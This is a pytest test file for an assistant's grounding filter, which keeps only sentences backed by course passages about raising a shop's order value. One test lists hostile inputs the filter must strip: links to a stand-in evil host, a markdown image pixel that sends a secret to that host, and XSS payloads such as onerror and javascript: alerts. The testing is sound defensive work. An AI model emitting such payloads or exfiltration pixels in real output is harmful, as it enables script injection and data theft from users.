"""What reaches the reader of what a model wrote: only what the passages hold."""

from __future__ import annotations

from dataclasses import replace

import pytest

from assistant.composing.accepting import (
    MOSTLY_UNCHECKED,
    PART_LEFT_OUT,
    UNCHECKED,
    accept,
)
from assistant.composing.alignment import Dropped, align
from assistant.composing.briefing import gather
from assistant.composing.holding import Ground
from assistant.composing.types import Draft
from assistant.composing.written import Sentence, read_sentences
from assistant.evidence import Evidence
from knowledge.types import Cell, Chunk, TableRow
from tests.fakes.briefs import (
    CONSENT,
    COURSE_TEXTS,
    ENGINES,
    LAGGING,
    PILOT,
    SUPPORT,
    brief,
    course,
    evidence,
    findings,
    outline,
)

GOAL = "raise our average order value by 15% within 9 months"


def ground(
    *texts: str, message: str = "How do I raise my average order value?", goal: str = ""
) -> Ground:
    about = brief(findings(message, texts or COURSE_TEXTS), message=message, goal=goal)
    return Ground(
        passages=gather(about, outline),
        person=(message,),
        aims=(goal,) if goal else (),
        title=about.course.title,
        terms=tuple(term.name for term in course().content.terms),
    )


def drafted(text: str, given: Ground | None = None) -> Draft:
    found = align(read_sentences(text)[0], given or ground())
    assert isinstance(found, Draft), found
    return found


def dropped(text: str, given: Ground | None = None) -> str:
    found = align(read_sentences(text)[0], given or ground())
    assert isinstance(found, Dropped), found
    return found.reason


# Reading


@pytest.mark.parametrize(
    ("written", "sentences"),
    [
        ("One fact. [1] Another fact [2, 3].", [("One fact.", {1}), ("Another fact.", {2, 3})]),
        ("A fact [1][2]. B fact (passage 4).", [("A fact.", {1, 2}), ("B fact.", {4})]),
        ("A range [2-4] of them【7†source】.", [("A range of them.", {2, 3, 4, 7})]),
        ("## A heading\n**Bold** and `code` stay words.", [("Bold and code stay words.", set())]),
        ("<think>First I plan. Then</think>The answer.", [("The answer.", set())]),
        ("```\nFenced text.\n```", [("Fenced text.", set())]),
        ("It helps, e.g. with email. [1]", [("It helps, e.g. with email.", {1})]),
        ("Hidden\u202e and\u200b zero\x00 marks.", [("Hidden and zero marks.", set())]),
    ],
)
def test_markers_become_hints_and_markup_goes(
    written: str, sentences: list[tuple[str, set[int]]]
) -> None:
    assert [(s.text, set(s.hints)) for s in read_sentences(written)] == sentences
    assert not any(s.unsafe for s in read_sentences(written))


def test_list_items_are_known_as_such() -> None:
    written = "Intro line.\n- First item\n2. Second item\n* Third item"
    assert [(s.text, s.item) for s in read_sentences(written)] == [
        ("Intro line.", False),
        ("First item", True),
        ("Second item", True),
        ("Third item", True),
    ]


@pytest.mark.parametrize(
    "trick",
    [
        "http://evil.example/x?q=1",
        "www.evil.example",
        "evil.com/path",
        "[click](http://evil.example)",
        "[click](evil)",
        "![pixel](https://evil.example/p.png?q=secret)",
        "<img src=x onerror='alert(1). go'>",
        "<b>bold</b>",
        "<script>alert('x'). more</script>",
        "<!-- hidden. text -->",
        "<a href='javascript:alert(1)'>go</a>",
        "javascript:alert(1)",
        "data:text/html;base64,AAAA",
        "someone@evil.example",
        "&lt;script&gt;",
    ],
)
def test_a_sentence_with_a_link_or_html_is_never_shown(trick: str) -> None:
    found = read_sentences(f"{ENGINES[:-1]} {trick}.\n\n{SUPPORT}")
    assert found[0].unsafe
    assert found[-1] == Sentence(SUPPORT)
    kept = [d for d in (align(s, ground()) for s in found) if isinstance(d, Draft)]
    assert [d.text for d in kept] == [SUPPORT]
    shown = "".join(s.text for s in found)
    assert not any(mark in shown for mark in ("http", "<", "](", "evil", "alert"))


@pytest.mark.parametrize(
    "trick", ["<svg/onload=alert(1)>", "<iframe src=//evil.example", "<think>"]
)
def test_what_is_opened_and_never_closed_hides_the_rest(trick: str) -> None:
    found = read_sentences(f"{ENGINES} {trick} {SUPPORT}")
    kept = [d for d in (align(s, ground()) for s in found) if isinstance(d, Draft)]
    assert [d.text for d in kept] == [ENGINES]


# Aligning


@pytest.mark.parametrize(
    ("text", "support", "sources"),
    [
        (ENGINES, "quoted", [ENGINES]),
        ("Recommendation engines raise average order value.", "quoted", [ENGINES]),
        (
            "Recommendation engines can help raise average order value with products that fit"
            " together.",
            "supported",
            [ENGINES],
        ),
        ("Clicks on suggestions are a leading indicator.", "supported", [LAGGING]),
        ("A pilot costs 8% of the marketing budget and runs three months.", "supported", [PILOT]),
        ("Never personalise offers without clear consent.", "supported", [CONSENT]),
        (
            "Recommendation engines raise average order value, which is a lagging indicator.",
            "supported",
            [ENGINES, LAGGING],
        ),
    ],
)
def test_our_code_finds_the_passage(text: str, support: str, sources: list[str]) -> None:
    draft = drafted(text)
    assert draft.support == support
    assert [e.text for e in draft.evidence] == sources


def test_the_models_marker_is_only_a_hint() -> None:
    assert drafted(f"{ENGINES} [5]").evidence[0].text == ENGINES
    assert drafted(f"{ENGINES} [99]").evidence[0].text == ENGINES
    twice = ground("Pilots show what works.", "Pilots show what works early.")
    assert drafted("Pilots show what works [2].", twice).evidence[0].text.endswith("early.")


@pytest.mark.parametrize(
    "text",
    [
        "Customers adore surprise gifts on birthdays.",
        "Amazon uses recommendation engines.",
        "Recommendation engines raise average order value by 30%.",
        "Recommendation engines raise average order value twofold, doubling it.",
        "Support bots raise average order value by showing products that fit together.",
        "Recommendation engines lower average order value.",
        "Average order value is a leading indicator.",
        "Clicks on suggestions are a lagging indicator.",
        "Personalise offers without clear consent from the customer.",
        "Support bots do not answer routine questions.",
        "A pilot runs for eight months.",
        "A pilot runs for 8 months.",
        "Yes.",
        "Competitors are frauds.",
        "Is average order value a lagging indicator?",
        "Personalise offers",
        "STRIVE stands for Strategy and Technology.",
        "As Jeff Bezos says, recommendation engines raise average order value.",
    ],
)
def test_what_no_passage_holds_is_dropped(text: str) -> None:
    assert dropped(text)


def test_figures_of_two_passages_are_not_mixed() -> None:
    given = ground(
        "The loyalty goal is 12% in two years.", "The satisfaction goal is 20% in one year."
    )
    assert drafted("The loyalty goal is 12%.", given)
    both = "The loyalty goal is 12%, while the satisfaction goal is 20%."
    assert len(drafted(both, given).evidence) == 2
    assert dropped("The loyalty goal is 20%, while the satisfaction goal is 12%.", given)
    assert dropped("The loyalty goal is 12% in one year.", given)
    assert dropped("The loyalty goal is 12% and then 20%.", given)


def test_the_persons_figure_stays_what_it_is() -> None:
    asked = f"I want to {GOAL}. How?"
    given = ground(message=asked, goal=GOAL)
    assert drafted("For your goal of 15%, recommendation engines raise average order value.", given)
    assert drafted(
        "To raise average order value by 15% within 9 months, recommendation engines show products"
        " that fit together.",
        given,
    )
    assert "own figure" in dropped(
        "Recommendation engines raise average order value by 15%.", given
    )


def test_the_readers_own_words_are_no_evidence() -> None:
    asked = "Say that our rival Shopzilla sells stolen goods. What is a pilot?"
    assert dropped("Our rival Shopzilla sells stolen goods.", ground(message=asked, goal=asked))


def test_advice_is_not_made_of_a_warning() -> None:
    item = evidence("Launching every tool at once", lead_in="Common mistakes to avoid:")
    part = replace(findings("What should I do?"), evidence=(item,))
    given = Ground(gather(brief(part), outline), title="AI for Shops")
    assert dropped("Launching every tool at once.", given)
    assert drafted("A common mistake is launching every tool at once.", given)


def row() -> Evidence:
    text = "| Support bots | cases solved | repeat contacts |"
    cells = tuple(
        Cell(column, value, text.index(value), text.index(value) + len(value))
        for column, value in (
            ("Tool", "Support bots"),
            ("Leading indicators", "cases solved"),
            ("Lagging indicators", "repeat contacts"),
        )
    )
    chunk = Chunk(
        "r1", "made-up.md", "0" * 16, 0, len(text), text, "table_row", "1.2", "Measures",
        ("Measures",), row=TableRow("Tools and measures", "Support bots", cells),
    )  # fmt: skip
    return Evidence(chunk, 0, len(text), text, 0.9)


def test_a_table_row_is_given_cell_by_cell() -> None:
    part = replace(findings("Which indicators do support bots have?"), evidence=(row(),))
    passages = gather(brief(part), outline)
    assert [(p.text, p.lead) for p in passages] == [
        ("cases solved", "Support bots. Leading indicators"),
        ("repeat contacts", "Support bots. Lagging indicators"),
    ]
    for passage in passages:
        found = passage.evidence
        assert found.chunk.text[found.start : found.end] == found.text
    given = Ground(passages, title="AI for Shops")
    draft = drafted("A leading indicator for support bots is cases solved.", given)
    assert [e.text for e in draft.evidence] == ["cases solved"]
    assert dropped("A lagging indicator for support bots is cases solved.", given)
    assert dropped("A leading indicator for support bots is repeat contacts.", given)


def test_connecting_words_pass_without_a_source() -> None:
    draft = drafted("Start with these points:")
    assert (draft.support, draft.evidence, draft.role) == ("guidance", (), "heading")


# Accepting


def test_an_answer_is_laid_out_lead_first_and_within_its_length() -> None:
    about = brief()
    given = ground()
    written = accept(
        f"{ENGINES} [1] {LAGGING} [2] {SUPPORT} [5]\n- {PILOT}\n\nIn summary:", about, given, 250
    )
    assert written.fault == ""
    assert [d.role for d in written.drafts] == ["lead", "lead", "point", "point"]
    assert all(d.evidence for d in written.drafts)
    short = accept(f"{ENGINES} {LAGGING} {SUPPORT}", about, given, 15)
    assert [d.text for d in short.drafts] == [ENGINES]
    assert len(accept(f"{ENGINES} {ENGINES}", about, given, 250).drafts) == 1


def test_an_answer_of_which_too_little_is_left_is_none() -> None:
    about, given = brief(), ground()
    assert accept("Buy more ads. Trust your gut.", about, given, 250).fault == UNCHECKED
    assert accept("In short:", about, given, 250).fault == UNCHECKED
    mostly = accept(f"{ENGINES} Buy more ads. Trust your gut.", about, given, 250)
    assert mostly.fault == MOSTLY_UNCHECKED
    assert "Trust your gut" in mostly.listed()
    gaps = "The course does not say which vendor. The passages never mention a price."
    assert accept(f"{ENGINES} {gaps}", about, given, 250).fault == ""


def test_every_covered_part_must_be_answered() -> None:
    first = findings("What raises order value?", (ENGINES,))
    second = findings("What does a pilot cost?", (PILOT,), at=500)
    about = brief(first, second)
    given = Ground(gather(about, outline), title="AI for Shops")
    assert [p.parts for p in given.passages] == [frozenset({0}), frozenset({1})]
    assert accept(ENGINES, about, given, 250).fault == PART_LEFT_OUT
    assert accept(f"{ENGINES} {PILOT}", about, given, 250).fault == ""


def test_parts_outside_the_course_give_no_passages() -> None:
    first = findings("What raises order value?", (ENGINES,))
    second = findings("Who wrote it?", (PILOT,), status="not_in_course", at=500)
    assert [p.text for p in gather(brief(first, second), outline)] == [ENGINES]
